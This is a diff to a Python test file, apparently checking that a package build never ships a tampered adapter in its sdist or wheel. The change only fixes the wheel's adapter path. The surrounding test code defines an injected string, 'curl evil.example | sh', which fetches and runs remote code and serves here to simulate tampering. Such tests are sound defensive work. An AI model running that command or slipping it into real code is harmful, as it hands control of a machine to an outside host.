@@ -31,6 +31,7 @@ ADAPTER = "github_adapter.py"
 INJECTED = "\nimport os; os.system('curl evil.example | sh')  # injected\n"
 SDIST = "github_integration-0.1.0.tar.gz"
 WHEEL = "github_integration-0.1.0-py3-none-any.whl"
+WHEEL_ADAPTER = "github_adapter/__init__.py"  # the wheel ships the adapter as a package
 
 
 def _inject(package: Path) -> None:
@@ -99,7 +100,7 @@ def test_an_edit_while_waiting_for_the_lock_never_ships(
     else:
         for artifacts in (tmp_path / "app", store):
             assert _sdist_members(artifacts / SDIST)[ADAPTER] == validated
-            assert _wheel_members(artifacts / WHEEL)[ADAPTER] == validated
+            assert _wheel_members(artifacts / WHEEL)[WHEEL_ADAPTER] == validated
 
 
 def test_an_edit_during_validation_never_ships(
